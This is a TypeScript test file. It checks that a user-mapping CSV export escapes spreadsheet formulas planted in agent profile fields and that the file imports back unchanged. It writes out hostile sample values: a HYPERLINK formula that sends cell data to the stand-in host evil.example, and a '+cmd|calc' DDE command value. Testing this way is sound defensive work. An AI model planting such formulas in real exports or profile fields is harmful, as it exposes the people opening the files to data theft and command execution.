import { parseCsv } from '../../src/application/users/csv.js';
import { ApiHarness, TENANT_A } from '../adapters/http/api/fakes/api-harness.js';
import { LocalEntra } from '../adapters/http/api/fakes/local-entra.js';

/**
 * An agent (or anyone who can edit a CXone or Entra profile) writes a spreadsheet formula into
 * their e-mail or UPN; an admin exports the user mapping and opens it in Excel. The formula must
 * arrive as text in every column, and the file must still import back unchanged.
 */
describe('a formula planted in a profile field, then the user mapping exported', () => {
  const PLANTED = '=HYPERLINK("https://evil.example/?"&A1,"click")@x.test';
  let entra: LocalEntra;
  let api: ApiHarness;
  let token: string;

  beforeAll(async () => {
    entra = await LocalEntra.start();
    token = await entra.token({ tid: TENANT_A });
  });
  beforeEach(async () => {
    api = await new ApiHarness(entra).start();
    api.acd.get(TENANT_A)?.addAgent('agent-evil', 'team-a1', PLANTED);
    api.entraUsers.get(TENANT_A)?.add('aad-evil', '+cmd|calc@x.test', PLANTED);
    await api.call('PUT', '/api/v1/users/agent-evil/link', { token, body: { teamsUserId: 'aad-evil' } });
  });
  afterEach(async () => api.close());
  afterAll(async () => entra.close());

  it('comes out with no cell a spreadsheet would evaluate, and imports back as unchanged', async () => {
    const exported = await api.call('GET', '/api/v1/users/export', { token });
    expect(exported.status).toBe(200);
    const parsed = parseCsv(exported.text);
    if (!parsed.ok) throw new Error(parsed.error.message);
    const evil = parsed.value.find((row) => row[0] === 'agent-evil');
    expect(evil).toEqual(['agent-evil', 'A agent-evil', `'${PLANTED}`, 'aad-evil', "'+cmd|calc@x.test", 'manual']);
    const cells = parsed.value.flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);

    const back = await api.call('POST', '/api/v1/users/import', { token, raw: exported.text, contentType: 'text/csv' });
    expect(back.status).toBe(200);
    expect(back.json).toMatchObject({ linked: [], unlinked: [], dryRun: false });
    expect((await api.store.userLinks.list(TENANT_A)).find((l) => l.agentId === 'agent-evil')?.teamsUserId).toBe(
      'aad-evil',
    );
  });
});
